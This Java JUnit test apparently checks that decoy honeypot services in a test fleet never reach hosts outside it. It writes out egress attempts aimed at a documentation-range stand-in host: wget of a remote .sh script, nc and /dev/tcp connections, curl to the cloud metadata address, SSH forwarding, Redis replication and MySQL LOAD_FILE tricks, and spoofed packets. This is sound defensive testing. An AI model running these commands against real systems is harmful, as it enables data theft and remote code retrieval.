package decnet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every way out that a service offers is tried with real clients, while tcpdump listens: a decky
 * sends to nobody who did not ask it. Needs root.
 */
@Tag("real")
@Timeout(240)
class NothingGetsOutRealTest {
  private static final String FLEET =
      """
      network: {link: tap, lan: 10.97.0.0/24}
      mutation: {every: 0}
      deckies:
        - name: decky-01
          address: 10.97.0.10
          services: [ssh, ftp, http]
          accounts: {root: toor, ann: toor}
        - {name: decky-02, address: 10.97.0.11, services: [redis, mysql, telnet], accounts: {root: toor}}
      """;
  private static final String OUTSIDE = "198.51.100.7"; // TEST-NET-2, RFC 5737

  @TempDir Path folder;

  @SuppressWarnings("NullAway.Init") // before each test
  private FleetStand fleet;

  @SuppressWarnings("NullAway.Init") // before each test
  private Sniffer sniffer;

  @BeforeEach
  void start() throws Exception {
    fleet = new FleetStand(folder, FLEET);
    sniffer = new Sniffer("10.97.0.1", folder.resolve("frames.pcap"));
  }

  @AfterEach
  void end() throws IOException {
    sniffer.close();
    fleet.close();
  }

  /** Runs a client to its end, which may be a failure; what it printed. */
  private static String run(String... words) throws IOException, InterruptedException {
    Process process =
        new ProcessBuilder(words)
            .redirectErrorStream(true)
            .redirectInput(ProcessBuilder.Redirect.from(Path.of("/dev/null").toFile()))
            .start();
    String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(process.waitFor(60, TimeUnit.SECONDS)).as(String.join(" ", words)).isTrue();
    return said;
  }

  private static String ssh(String... words) throws IOException, InterruptedException {
    List<String> options =
        List.of(
            "timeout",
            "6",
            "sshpass",
            "-p",
            "toor",
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "LogLevel=ERROR");
    return run(Stream.concat(options.stream(), Arrays.stream(words)).toArray(String[]::new));
  }

  /** Says {@code lines} one after another and reads until the peer ends it or falls silent. */
  private static String say(String address, int port, String... lines) throws IOException {
    try (Socket socket = new Socket(address, port)) {
      socket.setSoTimeout(2_000);
      StringBuilder heard = new StringBuilder();
      for (String line : lines) {
        socket.getOutputStream().write((line + "\r\n").getBytes(StandardCharsets.UTF_8));
      }
      byte[] buffer = new byte[4096];
      try {
        for (int got = 0; got >= 0; got = socket.getInputStream().read(buffer)) {
          heard.append(new String(buffer, 0, got, StandardCharsets.UTF_8));
        }
      } catch (SocketTimeoutException | SocketException ended) { // silent, or reset
        return heard.toString();
      }
      return heard.toString();
    }
  }

  private void assertNothingGotOut(int atLeast) throws IOException, InterruptedException {
    Sniffer.Verdict verdict = sniffer.verdict();
    assertThat(verdict.sent()).as("frames of the deckies").isGreaterThan(atLeast);
    assertThat(verdict.received()).isGreaterThan(atLeast);
    assertThat(verdict.offences()).isEmpty();
  }

  @Test
  void ssh_forwards_within_the_fleet_only() throws Exception {
    assertThat(ssh("root@10.97.0.10", "hostname")).isNotBlank();
    assertThat(ssh("-W", "10.97.0.11:6379", "root@10.97.0.10")).doesNotContain("refused");
    for (String target :
        List.of(OUTSIDE + ":80", "169.254.169.254:80", "[2001:db8::1]:80", "10.97.0.1:22")) {
      ssh("-W", target, "root@10.97.0.10");
    }
    ssh("-R", "0:" + OUTSIDE + ":80", "root@10.97.0.10", "true");
    ssh("-w", "any", "root@10.97.0.10", "true");
    assertNothingGotOut(50);
  }

  @Test
  void no_command_of_the_shell_reaches_anybody() throws Exception {
    for (String command :
        List.of(
            "curl -m 3 http://169.254.169.254/latest/meta-data/",
            "wget -T 3 -t 1 http://" + OUTSIDE + "/x.sh",
            "curl -m 3 -6 http://[2001:db8::1]/",
            "ping -c 1 -W 1 " + OUTSIDE,
            "nc -w 2 " + OUTSIDE + " 80",
            "echo x > /dev/tcp/" + OUTSIDE + "/80",
            "ssh -o ConnectTimeout=2 root@" + OUTSIDE + " id",
            "nslookup example.org " + OUTSIDE,
            "tftp " + OUTSIDE + " -c get x",
            "telnet " + OUTSIDE + " 23",
            "ping -c 1 -W 1 10.97.0.1")) {
      ssh("root@10.97.0.10", command);
    }
    assertNothingGotOut(50);
  }

  @Test
  void ftp_http_redis_and_mysql_call_nobody() throws Exception {
    String active = OUTSIDE.replace('.', ',') + ",0,80";
    assertThat(say("10.97.0.10", 21, "USER ann", "PASS toor", "PORT " + active, "LIST", "QUIT"))
        .contains("230");
    say("10.97.0.10", 21, "USER ann", "PASS toor", "EPRT |1|" + OUTSIDE + "|80|", "LIST", "QUIT");
    for (String request :
        List.of(
            "GET http://" + OUTSIDE + "/ HTTP/1.1",
            "CONNECT " + OUTSIDE + ":80 HTTP/1.1",
            "GET /?url=http://169.254.169.254/ HTTP/1.1")) {
      say("10.97.0.10", 80, request, "Host: " + OUTSIDE, "Connection: close", "");
    }
    say(
        "10.97.0.11",
        6379,
        "REPLICAOF " + OUTSIDE + " 6379",
        "SET a b",
        "MIGRATE " + OUTSIDE + " 6379 a 0 1000",
        "CLUSTER MEET " + OUTSIDE + " 6379",
        "QUIT");
    run(
        "timeout",
        "20",
        "mysql",
        "-h",
        "10.97.0.11",
        "-uroot",
        "-ptoor",
        "--skip-ssl",
        "-f",
        "-e",
        "CHANGE MASTER TO MASTER_HOST='"
            + OUTSIDE
            + "'; START SLAVE; SELECT LOAD_FILE('//"
            + OUTSIDE
            + "/x');");
    assertNothingGotOut(40);
  }

  @Test
  void ftp_in_active_mode_calls_the_caller_back_and_nobody_else() throws Exception {
    String url = "ftp://ann:toor@10.97.0.10/";
    String up = Files.writeString(folder.resolve("up"), "found\n".repeat(50_000)).toString();
    assertThat(run("curl", "-sS", "-m", "20", "-P", "-", "-T", up, url + "up")).isEmpty();
    assertThat(run("curl", "-sS", "-m", "20", "-P", "-", url)).contains("300000", "up");
    assertThat(run("curl", "-sS", "-m", "20", "-P", "-", "--disable-eprt", url + "up"))
        .isEqualTo(Files.readString(Path.of(up)));
    String refused = "PORT 10,97,0,1,200,200"; // nobody listens there
    assertThat(say("10.97.0.10", 21, "USER ann", "PASS toor", refused, "LIST", "QUIT"))
        .contains("425 Failed to establish connection.");
    assertNothingGotOut(50);
  }

  @Test
  void a_decky_is_no_router_and_no_reflector() throws Exception {
    assertThat(run("ip", "route", "add", "198.51.100.0/24", "via", "10.97.0.10")).isEmpty();
    run("nping", "-q", "-c", "2", "--icmp", OUTSIDE); // the route goes with the device
    run("nping", "-q", "-c", "2", "--udp", "-p", "53", "--data-length", "400", "10.97.0.10");
    run("nping", "-q", "-c", "2", "--icmp", "--data-length", "900", "10.97.0.10");
    run(
        "nping",
        "-q",
        "-c",
        "3",
        "--udp",
        "-p",
        "161",
        "--source-ip",
        OUTSIDE,
        "--data-length",
        "10",
        "10.97.0.11");
    run("nping", "-q", "-c", "3", "--tcp", "-p", "6379", "--flags", "ack", "10.97.0.11");
    run("nmap", "-n", "-F", "-sU", "--max-retries", "0", "--host-timeout", "20s", "10.97.0.11");
    assertNothingGotOut(8);
  }
}
